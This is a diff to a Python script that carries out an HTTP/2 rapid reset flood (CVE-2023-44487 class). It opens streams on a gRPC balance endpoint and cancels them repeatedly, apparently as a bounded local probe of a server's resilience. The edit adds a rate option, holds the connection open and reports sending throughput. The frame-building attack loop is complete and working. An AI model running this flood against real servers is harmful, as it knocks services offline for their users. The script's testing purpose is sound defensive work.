@@ -2,11 +2,13 @@
 """HTTP/2 rapid reset (CVE-2023-44487 class): on one connection, open a stream with HEADERS for
 /ledger.v1.Ledger/Balance and cancel it at once with RST_STREAM, again and again.
 
-Bounded: stops after --seconds or --max_streams, whichever comes first. Frames are built by hand
+Bounded: sends for --seconds or until --max_streams are sent, whichever comes first, and holds the
+connection open (reading) until --seconds are up. Frames are built by hand
 (the header block is HPACK-encoded once by python3-hpack, which python3-h2 brings) so that one
 Python process sends as fast as a real attacker's loop.
 
 Usage: rapid_reset.py --port PORT [--host 127.0.0.1] [--seconds 4] [--max_streams 5000000]
+                      [--rate STREAMS_PER_SECOND]
 """
 import argparse
 import json
@@ -38,6 +40,8 @@ def main():
     parser.add_argument("--seconds", type=float, default=4.0)
     parser.add_argument("--max_streams", type=int, default=5_000_000)
     parser.add_argument("--batch", type=int, default=200, help="streams per write")
+    parser.add_argument("--rate", type=float, default=0,
+                        help="streams per second at most (0: as fast as the socket takes them)")
     args = parser.parse_args()
 
     block = hpack.Encoder().encode(request_headers(BALANCE_PATH, f"{args.host}:{args.port}"))
@@ -46,13 +50,19 @@ def main():
     sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 0x1, 0))
     sock.setblocking(False)
     stream_id, sent, received, closed_by = 1, 0, 0, ""
-    start = time.monotonic()
+    start = last_write = time.monotonic()
     end = start + args.seconds
     pending = b""
-    while time.monotonic() < end and sent < args.max_streams and not closed_by:
-        if not pending:
+    pair_bytes = len(frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, bytes(4)))
+    # Until the time is up, also after the last stream is written: the connection stays open, as
+    # an attacker's would, so that the server reads all that was sent (closing a socket with
+    # unread input resets it, and the server's kernel drops what the server has not read yet).
+    while time.monotonic() < end and not closed_by:
+        due = args.max_streams if not args.rate else \
+            min(args.max_streams, int(args.rate * (time.monotonic() - start)) + args.batch)
+        if not pending and sent < due:
             chunk = bytearray()
-            for _ in range(min(args.batch, args.max_streams - sent)):
+            for _ in range(min(args.batch, due - sent)):
                 chunk += frame(HEADERS, END_HEADERS, stream_id, block)
                 chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                 stream_id += 2
@@ -60,7 +70,7 @@ def main():
                 if stream_id >= 2**31:
                     break
             pending = bytes(chunk)
-        readable, writable, _ = select.select([sock], [sock], [], 0.05)
+        readable, writable, _ = select.select([sock], [sock] if pending else [], [], 0.05)
         if readable:
             try:
                 data = sock.recv(1 << 20)
@@ -74,6 +84,7 @@ def main():
         if writable and pending:
             try:
                 pending = pending[sock.send(pending):]
+                last_write = time.monotonic()
             except (BlockingIOError, InterruptedError):
                 pass
             except OSError as error:
@@ -81,9 +92,12 @@ def main():
         if stream_id >= 2**31:
             closed_by = "stream ids exhausted"
     sock.close()
+    sent -= -(-len(pending) // pair_bytes)  # Streams never written, rounded up.
     elapsed = time.monotonic() - start
+    sending = max(last_write - start, 1e-3)
     print(json.dumps({"probe": "rapid_reset", "streams_sent": sent, "seconds": round(elapsed, 2),
-                      "streams_per_second": round(sent / elapsed), "bytes_received": received,
+                      "sending_seconds": round(sending, 2),
+                      "streams_per_second": round(sent / sending), "bytes_received": received,
                       "ended_by": closed_by or "time or count bound"}))
 
 
